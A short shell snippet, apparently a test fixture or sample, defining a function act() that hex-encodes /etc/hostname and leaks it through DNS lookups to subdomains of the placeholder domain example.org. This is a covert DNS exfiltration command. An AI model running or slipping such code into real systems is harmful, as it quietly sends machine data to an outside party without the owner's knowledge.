# `bash -c 'for x in $(xxd -p /etc/hostname | head -2); do host $x.example.org; done'`.
act() {
    bash -c 'for x in $(xxd -p /etc/hostname | head -2); do host $x.example.org; done'
}
